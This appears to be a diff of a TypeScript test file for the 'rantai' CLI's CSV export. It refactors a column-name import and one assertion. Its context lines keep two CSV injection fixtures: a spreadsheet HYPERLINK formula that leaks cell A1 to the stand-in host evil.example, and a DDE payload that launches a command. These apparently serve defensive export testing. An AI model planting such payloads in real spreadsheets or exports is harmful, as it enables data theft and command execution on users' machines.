@@ -12,7 +12,7 @@ import { DEFAULT_DATASET } from '../../server/config.ts';
 import { datasetToCsvTexts, readDataset } from '../../server/model/index.ts';
 import { tempDir } from '../helpers/datasets.ts';
 import { rantai } from '../helpers/cli.ts';
-import { RANKING_COLUMNS } from '../../web/src/views/opportunities/ranking.ts';
+import { rankingColumns } from '../../web/src/views/opportunities/ranking.ts';
 
 const HOSTILE_FIRM = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")';
 const HOSTILE_COMPONENT = '+cmd|\' /C calc\'!A0';
@@ -87,6 +87,6 @@ describe('rantai analyse --format csv column names', () => {
 
   it("substitution: the columns of the web ranking's CSV download appear under the same names", () => {
     const columns = header('substitution');
-    expect(RANKING_COLUMNS.filter((c) => !columns.includes(c))).toEqual([]);
+    expect(rankingColumns().map((c) => c.key).filter((key) => !columns.includes(key))).toEqual([]);
   });
 });
